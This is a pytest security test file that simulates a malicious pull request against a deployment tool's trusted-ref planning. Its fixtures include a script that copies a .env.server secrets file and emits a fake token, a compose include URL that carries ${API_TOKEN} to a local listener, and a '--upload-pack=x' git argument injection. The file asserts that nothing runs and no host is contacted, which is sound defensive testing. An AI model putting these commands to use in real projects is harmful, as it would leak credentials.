"""`plan --trusted-ref` on a pull request by somebody who means harm, judged by what ran and who was contacted."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.e2e.job import Job
from tests.world.images import GOOD

pytestmark = pytest.mark.engine


@contextmanager
def listener() -> Iterator[tuple[int, list[str]]]:
    """A port, and who connected to it."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        met: list[str] = []

        def accept() -> None:
            while True:
                try:
                    connection, address = server.accept()
                except OSError:
                    return
                met.append(str(address))
                connection.close()

        threading.Thread(target=accept, daemon=True).start()
        yield server.getsockname()[1], met


def test_nothing_that_it_wrote_runs_and_no_host_that_it_named_is_contacted(job: Job, tmp_path: Path) -> None:
    job.once()
    job.images.good(GOOD[1])
    job.repo.git("branch", "trusted")
    loot = tmp_path / "loot"
    with listener() as (port, met):
        script = job.repo.write("give.sh", f"#!/bin/sh\ncat .env.server >{loot}\necho API_TOKEN=x\n")
        script.chmod(0o755)
        job.repo.edit(
            {
                "tag": GOOD[1],
                "env.values": {"command": ["./give.sh"]},
                "targets.demo.host": "127.0.0.1",
                "targets.demo.port": port,
                "targets.mine": {"host": "127.0.0.1", "port": port, "deploy_dir": "/srv/mine", "project": "mine"},
                "image.credentials": {"username": "x", "password": {"command": ["./give.sh"]}},
                "gates.commands": [{"name": "x", "run": ["./give.sh"], "from": "controller"}],
            }
        )
        job.repo.commit("A harmless looking release")
        done = job.run("plan", "--trusted-ref", "trusted", expect=2)
        assert GOOD[1] in done.stdout, "what it asks for is planned"
        assert "target mine isn't in trusted: nothing is sent there" in done.stdout
        assert "target demo is planned for as trusted has it" in done.stdout
        assert "env is used as trusted has it" in done.stdout
        assert met == []
    assert not loot.exists()
    assert job.run("plan", expect=None).returncode != 2, "without it, the same would have been used"


def test_compose_fetches_no_file_from_elsewhere(job: Job) -> None:
    """The address of an include may carry a value away: nobody is asked for it, and the message says what to do."""
    with listener() as (port, met):
        compose = job.repo.path / "desired_state" / "observer" / "compose.yaml"
        include = f"include:\n  - http://127.0.0.1:{port}/x.git?stolen=${{API_TOKEN}}\n"
        compose.write_text(include + compose.read_text())
        job.repo.commit("Include")
        done = job.once(expect=1)
        assert "include one from elsewhere (git or a registry)" in done.stderr + done.stdout
        assert met == []
    assert job.project.containers() == {}


@pytest.mark.parametrize("ref", ["nothing", "--upload-pack=x", "HEAD:deploy.yaml"])
def test_a_ref_that_is_none_is_said_in_one_line(job: Job, ref: str) -> None:
    done = job.run("plan", f"--trusted-ref={ref}", expect=1)
    assert len(done.stderr.splitlines()) == 1, done.stderr
